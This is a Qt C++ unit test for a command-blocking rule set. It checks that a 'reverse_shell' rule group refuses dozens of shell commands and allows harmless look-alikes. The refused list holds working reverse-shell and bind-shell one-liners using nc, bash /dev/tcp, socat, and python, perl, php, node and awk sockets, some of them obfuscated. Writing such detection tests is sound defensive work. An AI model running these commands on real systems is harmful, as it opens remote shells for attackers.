// SPDX-License-Identifier: Apache-2.0
#include "tests/support/shipped_rules.h"

#include <QTest>

using namespace portcullis;

namespace {

constexpr const char *refused[] = {
    "deno eval 'await Deno.connect({hostname:\"1.2.3.4\",port:1})'",
    "nc -e /bin/sh 192.0.2.1 4444",
    "nc 192.0.2.1 4444",
    "nc -lvnp 4444",
    "ncat --exec /bin/bash 192.0.2.1 4444",
    "/usr/bin/nc.traditional 192.0.2.1 4444 -c sh",
    "/?\?\?/n? 192.0.2.1 4444 -e sh",
    "busybox nc 192.0.2.1 4444 -e sh",
    "rm p; mkfifo p; cat p | sh -i 2>&1 | nc 192.0.2.1 4444 > p",
    "socat exec:'bash -li',pty tcp:192.0.2.1:4444",
    "socat TCP-LISTEN:4444,fork EXEC:/bin/bash",
    "openssl s_client -connect 192.0.2.1:443",
    "telnet 192.0.2.1 4444",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
    "sh -i >& /dev/udp/192.0.2.1/4444 0>&1",
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));pty.spawn(\"sh\")'",
    "python -c \"from socket import socket; s=socket(); s.connect(('x',1))\"",
    "python3 -c '__import__(\"socket\").create_connection((\"x\",1))'",
    "echo 'import socket; socket.create_connection((\"x\",1))' | python3",
    "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);'",
    "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"x:1\")'",
    "ruby -rsocket -e 's=TCPSocket.new(\"x\",1)'",
    "php -r '$s=fsockopen(\"192.0.2.1\",4444);exec(\"sh <&3 >&3 2>&3\");'",
    "lua -e 'require(\"socket\").tcp():connect(\"x\",1)'",
    "node -e 'require(\"net\").connect(4444,\"192.0.2.1\")'",
    "node -e \"import('node:net').then(n=>n.connect(1,'x'))\"",
    "awk 'BEGIN{while((\"/inet/tcp/0/x/1\" |& getline l)>0) print l}'",
    "nohup nc 192.0.2.1 4444 &",
    "setsid socat - TCP:192.0.2.1:4444",
    "ttyd bash",
};

constexpr const char *allowed[] = {
    "ls *.nc",
    "ncdump -h climate.nc",
    "grep -rn netcat docs",
    "echo nc -e sh",
    "openssl dgst -sha256 a",
    "openssl genrsa -out k.pem 2048",
    "mkfifo pipe",
    "python3 -c 'import socket; print(socket.gethostname())'",
    "python3 -c 'import http.client'",
    "python3 -m http.server --help",
    "node -e 'console.log(1)'",
    "perl -pe 's/a/b/' f",
    "awk '{print $1}' f",
    "awk '/inet/ {print $2}' if.txt",
    "bash build.sh",
    "sh -c 'echo hi'",
    "exec 3>&1",
    "exec 2>/dev/null",
    "cat < in > out",
    "git commit -m 'block bash -i >& /dev/tcp/x/1'",
    "grep telnet /etc/services",
    "node server.js",
};

} // namespace

class TstRulesReverseShell : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void refuses_however_it_is_written_data() { test::addCommandRows(refused); }
    void refuses_however_it_is_written()
    {
        QFETCH(QByteArray, command);
        const QStringList groups = test::refusingGroups(command);
        QVERIFY2(groups.contains(QStringLiteral("reverse_shell")), qPrintable(groups.join(u' ')));
    }

    void no_rule_refuses_the_harmless_neighbour_data() { test::addCommandRows(allowed); }
    void no_rule_refuses_the_harmless_neighbour()
    {
        QFETCH(QByteArray, command);
        QCOMPARE(test::refusingRules(command), QStringList());
    }
};

QTEST_GUILESS_MAIN(TstRulesReverseShell)
#include "tst_rules_reverse_shell.moc"
